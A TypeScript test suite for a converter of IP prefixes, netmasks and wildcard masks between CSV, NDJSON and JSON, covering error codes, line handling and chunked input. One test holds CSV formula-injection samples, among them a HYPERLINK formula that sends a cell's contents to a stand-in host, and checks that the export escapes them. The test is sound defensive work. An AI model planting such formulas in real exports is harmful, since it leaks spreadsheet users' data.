import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import '../../../../../prefix/src/testing/property.ts';
import { InvalidBody } from '../refusals.ts';
import { Conversion, type ConversionOptions } from './conversion.ts';

/** The whole answer to a body that comes in these pieces. */
function convert(pieces: readonly string[], options: ConversionOptions): string {
  const conversion = new Conversion(options);
  return pieces.map((piece) => conversion.push(piece)).join('') + conversion.end();
}

/** The records of an answer in JSON. */
function records(pieces: string | readonly string[], from: ConversionOptions['from'] = 'csv') {
  return JSON.parse(convert([pieces].flat(), { from, to: 'json' }));
}

const LENGTH_18 = {
  family: 4,
  length: 18,
  mask: '255.255.192.0',
  wildcardMask: '0.0.63.255',
  prefix: null,
};

describe('what an item converts to', () => {
  test.each([
    ['18', { kind: 'length', ...LENGTH_18 }],
    ['255.255.192.0', { kind: 'mask', ...LENGTH_18 }],
    ['0.0.63.255', { kind: 'wildcard-mask', ...LENGTH_18 }],
    ['10.0.64.0/18', { kind: 'prefix', ...LENGTH_18, prefix: '10.0.64.0/18' }],
    ['10.0.64.0/255.255.192.0', { kind: 'prefix', ...LENGTH_18, prefix: '10.0.64.0/18' }],
    ['10.0.64.0 0.0.63.255', { kind: 'prefix', ...LENGTH_18, prefix: '10.0.64.0/18' }],
    ['18 ', { kind: 'length', ...LENGTH_18 }],
    ['\ufeff18', { kind: 'length', ...LENGTH_18 }],
    ['10.0.64.0 - 10.0.127.255', { kind: 'prefix', ...LENGTH_18, prefix: '10.0.64.0/18' }],
    ['10.0.64.0 netmask 255.255.192.0', { kind: 'prefix', ...LENGTH_18, prefix: '10.0.64.0/18' }],
    ['10.0.*', { kind: 'prefix', family: 4, length: 16, prefix: '10.0.0.0/16' }],
    ['0', { kind: 'length', length: 0, mask: '0.0.0.0', wildcardMask: '255.255.255.255' }],
    ['0.0.0.0', { kind: 'mask', length: 0 }],
    ['255.255.255.255', { kind: 'mask', length: 32 }],
    [
      '2001:DB8:0::/33',
      {
        kind: 'prefix',
        family: 6,
        length: 33,
        mask: 'ffff:ffff:8000::',
        wildcardMask: '::7fff:ffff:ffff:ffff:ffff:ffff',
        prefix: '2001:db8::/33',
      },
    ],
  ])('%s', (input, converted) => {
    expect(records(input)).toEqual([expect.objectContaining({ line: 1, input, ...converted })]);
  });

  test.each([
    ['33', 'length-range', 0],
    ['018', 'leading-zero', 0],
    ['00', 'leading-zero', 0],
    ['-1', 'length-range', 0],
    ['10.0.0.1 - 10.0.0.9', 'not-prefix', undefined],
    ['10.0.0.1\ufffd', 'encoding', undefined],
    ['+1', 'character', 0],
    ['1e1', 'character', 1],
    ['１８', 'character', 0],
    ['255.0.255.0', 'mask', undefined],
    ['10.0.0.1', 'mask', undefined],
    ['0255.255.0.0', 'leading-zero', 0],
    ['255.255', 'octet-count', 7],
    ['10.0.0.1/18', 'host-bits', 0],
    ['10.0.0.0/33', 'length-range', 9],
    ['2001:db8::', 'length-missing', 10],
    ['fe80::%eth0/64', 'zone', 6],
    ['/18', 'empty', 0],
    ['\u0000', 'character', 0],
  ])('%j is an error in its place: %s at %s', (input, code, position) => {
    const [before, error, after] = records(`18\n${input}\n24\n`);
    expect([before.length, after.length]).toEqual([18, 24]);
    expect(error).toMatchObject({ line: 2, input, error: { code } });
    expect(error.error.message.length).toBeGreaterThan(10);
    expect(error.error.position).toBe(position);
  });
});

test.each([
  [{ hostBits: 'network' }, '10.0.64.1/18', '10.0.64.0/18'],
  [{ zone: 'drop' }, 'fe80::%eth0/64', 'fe80::/64'],
  [{ pairs: 'wildcard' }, '0.0.0.0 0.0.0.0', '0.0.0.0/32'],
] as const)('an option reads what is refused without it: %j, %s', (reading, input, prefix) => {
  expect(records(input)).toMatchObject([{ error: {} }]);
  const answer = convert([input], { from: 'csv', to: 'json', reading });
  expect(JSON.parse(answer)).toMatchObject([{ prefix }]);
});

describe('lines', () => {
  test('end with or without a carriage return, and the last may have no end', () => {
    const expected = records('18\n19\n20\n');
    expect(expected.map((record: { length: number }) => record.length)).toEqual([18, 19, 20]);
    for (const body of ['18\r\n19\r\n20\r\n', '18\n19\n20', '18\r\n19\n20\r']) {
      expect(records(body)).toEqual(expected);
    }
  });

  test('that are empty are errors, and keep their line numbers', () => {
    const [first, second, third] = records('18\n\n19\n');
    expect([first.line, second.line, third.line]).toEqual([1, 2, 3]);
    expect(second.error.code).toBe('empty');
    expect(records('\n"18"', 'ndjson')).toMatchObject([
      { error: { code: 'json' } },
      { length: 18 },
    ]);
  });

  test.each(['csv', 'ndjson'] as const)(
    'of a megabyte is one error in %s, shown by its beginning',
    (from) => {
      const long = '"'.padEnd(1024 * 1024, '1');
      const answer = records(['18\n', long.slice(0, 5000), long.slice(5000), '\n24'], from);
      expect(answer).toMatchObject([
        { length: 18 },
        { line: 2, input: `${long.slice(0, 60)}…`, error: { code: 'too-long' } },
        { length: 24 },
      ]);
    },
  );

  test('give the same answer however they are cut into pieces', () => {
    const line = fc.constantFrom(
      '18',
      '255.255.0.0',
      '"10.0.0.0/8"',
      'x',
      '',
      '"a',
      '9'.repeat(1025),
    );
    const end = fc.constantFrom('\n', '\r\n');
    fc.assert(
      fc.property(
        fc.array(fc.tuple(line, end), { minLength: 1, maxLength: 5 }),
        fc.array(fc.nat(60), { maxLength: 12 }),
        fc.constantFrom<ConversionOptions['from']>('csv', 'ndjson'),
        (lines, cuts, from) => {
          const body = lines.flat().join('');
          const answer = records(cut(body, cuts), from);
          expect(answer).toEqual(records(body, from));
          expect(answer).toHaveLength(lines.length);
        },
      ),
    );
  });
});

/** A text in pieces of these sizes, and what is left. */
function cut(text: string, sizes: readonly number[]): string[] {
  let at = 0;
  const pieces = sizes.map((size) => {
    const piece = text.slice(at, at + size);
    at += size;
    return piece;
  });
  return [...pieces, text.slice(at)];
}

describe('JSON arrays', () => {
  test('of anything are cut where JSON.parse cuts them, however they arrive', () => {
    // Longer elements are refused, as another test shows.
    const element = fc
      .jsonValue({ maxDepth: 3 })
      .filter((value) => JSON.stringify([value], undefined, 1).length < 1000);
    const json = fc.array(element, { maxLength: 6 });
    fc.assert(
      fc.property(
        json,
        fc.array(fc.nat(20), { maxLength: 12 }),
        fc.constantFrom(0, 1),
        (array, cuts, indent) => {
          const body = ` \n${JSON.stringify(array, undefined, indent)}\r\n`;
          const answer = records(cut(body, cuts), 'json');
          // Elements that are not texts keep their own writing, which an indent may change.
          const shown = array.map((element) =>
            typeof element === 'string' ? element : JSON.stringify(element),
          );
          const inputs = answer.map(
            ({ input, error }: { input: string; error?: { code: string } }) =>
              error?.code === 'json' ? JSON.stringify(JSON.parse(input)) : input,
          );
          expect(inputs).toEqual(shown);
        },
      ),
    );
  });

  test('take lengths as whole numbers, and no other writing of a number', () => {
    expect(records('[18, 18.0, 1.8e1, -18, 018, "18"]', 'json')).toMatchObject([
      { input: '18', length: 18 },
      { input: '18.0', error: {} },
      { input: '1.8e1', error: {} },
      { input: '-18', error: {} },
      { input: '018', error: { code: 'leading-zero' } },
      { input: '18', length: 18 },
    ]);
  });

  test.each(['null', 'true', '{"a":1}', '["18"]', '"\\x"', '"a', '}', '', '  '])(
    'report the element %s as an error in its place',
    (element) => {
      const answer = records(`[18,${element},24]`, 'json');
      // An unclosed string swallows the rest.
      expect(answer[0].length).toBe(18);
      expect(answer[1]).toMatchObject({ line: 2, error: { code: 'json' } });
    },
  );

  test('of one element that is a megabyte keep its beginning', () => {
    expect(records(`[18,"${'1'.repeat(1024 * 1024)}",24]`, 'json')).toMatchObject([
      { length: 18 },
      { error: { code: 'too-long' } },
      { length: 24 },
    ]);
  });

  test.each(['[]', ' [ \n] '])('%j is answered with nothing', (body) => {
    expect(records(body, 'json')).toEqual([]);
  });

  test.each([
    ['', 'empty'],
    [' \n', 'empty'],
    ['{"values":[]}', 'begin with ['],
    ['18', 'begin with ['],
    ['[', 'ends before'],
    ['[18', 'ends before'],
    ['[] []', 'goes on'],
  ])('rejects %j as a body', (body, fault) => {
    const conversion = new Conversion({ from: 'json', to: 'json' });
    expect(() => conversion.push(body) + conversion.end()).toThrow(InvalidBody);
    const again = new Conversion({ from: 'json', to: 'json' });
    expect(() => again.push(body) + again.end()).toThrow(fault);
  });

  test.each([
    ['[18,24', [18], 'ends before'],
    ['[18]x', [18], 'goes on'],
    ['[18] [19]', [18], 'goes on'],
  ])('%j, broken after its beginning, ends with an error that says so', (body, lengths, fault) => {
    const answer = records(cut(body, [4, 1]), 'json');
    expect(answer.slice(0, -1).map(({ length }: { length: number }) => length)).toEqual(lengths);
    expect(answer.at(-1)).toMatchObject({ line: lengths.length + 1, error: { code: 'json' } });
    expect(answer.at(-1).error.message).toContain(fault);
  });
});

describe('CSV', () => {
  test('counts the first field, quoted or not', () => {
    expect(records('18,x\n"255.255.0.0","y"\n"24"\n')).toMatchObject([
      { input: '18', length: 18 },
      { input: '255.255.0.0', length: 16 },
      { input: '24', length: 24 },
    ]);
  });

  test.each(['1"8', '"18', '"18"x', '"'])('reports the line %s as an error', (line) => {
    expect(records(`${line}\n24`)).toMatchObject([
      { input: line, error: { code: 'csv' } },
      { length: 24 },
    ]);
  });

  test('leaves out a header where there is one, and counts its line', () => {
    const options = { from: 'csv', to: 'json', hasHeader: true } as const;
    expect(JSON.parse(convert(['mask\n255.0.0.0\n'], options))).toMatchObject([
      { line: 2, length: 8 },
    ]);
    expect(convert(['mask\n'], options)).toBe('[]\n');
  });

  test('is written with a header, and with quotation marks where a field needs them', () => {
    const answer = convert(['"a ""b"",\n18\n10.0.0.0/8\n"a,b"\n33'], { from: 'csv', to: 'csv' });
    const [header, unclosed, ...lines] = answer.split('\n');
    expect(header).toBe('line,input,kind,family,length,mask,wildcardMask,prefix,error');
    expect(unclosed).toBe(
      '1,"""a """"b"""",",,,,,,,has a quoted field that does not end on its line',
    );
    expect(lines.slice(0, 2)).toEqual([
      '2,18,length,4,18,255.255.192.0,0.0.63.255,,',
      '3,10.0.0.0/8,prefix,4,8,255.0.0.0,0.255.255.255,10.0.0.0/8,',
    ]);
    expect(lines[2]).toMatch(/^4,"a,b",,,,,,,"""a,b"" .+"$/);
    expect(lines[3]).toMatch(/^5,33,,,,,,,"""33"" .+"$/);
    expect(lines.slice(4)).toEqual(['']);
  });

  /** The cells of the column `input`, with their quotation marks. */
  const inputCells = (items: readonly string[], options: Partial<ConversionOptions> = {}) => {
    const body = JSON.stringify(items);
    return convert([body], { from: 'json', to: 'csv', ...options })
      .split(/\n(?=\d|$)/)
      .slice(1, -1)
      .map((line) => /^\d+,("(?:[^"]|"")*"|[^,]*),/.exec(line)?.[1]);
  };
  const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\0=x', "'=x", "'x", 'a=b'];

  test('no cell begins like a formula, for which a spreadsheet would take it', () => {
    expect(inputCells(formulas)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      `"'\rx"`,
      "'\0=x",
      "''=x",
      "'x",
      'a=b',
    ]);
    expect(inputCells(['=HYPERLINK("http://x/?"&A1,"y")'])).toEqual([
      `"'=HYPERLINK(""http://x/?""&A1,""y"")"`,
    ]);
  });

  test('on request a cell is left as it came', () => {
    expect(inputCells(formulas, { keepFormulas: true })).toEqual(
      formulas.map((text) => (text === '\rx' ? '"\rx"' : text)),
    );
  });

  test('other formats repeat an item as it came', () => {
    expect(records('=1+1')).toMatchObject([{ input: '=1+1' }]);
  });
});

describe.each(['csv', 'ndjson'] as const)('an empty body of %s', (from) => {
  test('is refused', () => {
    expect(() => convert([], { from, to: 'ndjson' })).toThrow(InvalidBody);
    expect(() => convert(['', ''], { from, to: 'ndjson' })).toThrow(InvalidBody);
  });
});

test('every format says the same', () => {
  const bodies = {
    csv: '18\nx\n10.0.0.0/8',
    ndjson: '18\n"x"\n"10.0.0.0/8"',
    json: '["18","x","10.0.0.0/8"]',
  };
  const expected = records(bodies.csv);
  for (const from of ['csv', 'ndjson', 'json'] as const) {
    expect(records(bodies[from], from)).toEqual(expected);
    const lines = convert([bodies[from]], { from, to: 'ndjson' }).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((line) => JSON.parse(line))).toEqual(expected);
    expect(convert([bodies[from]], { from, to: 'csv' })).toBe(
      convert([bodies.csv], { from: 'csv', to: 'csv' }),
    );
  }
});
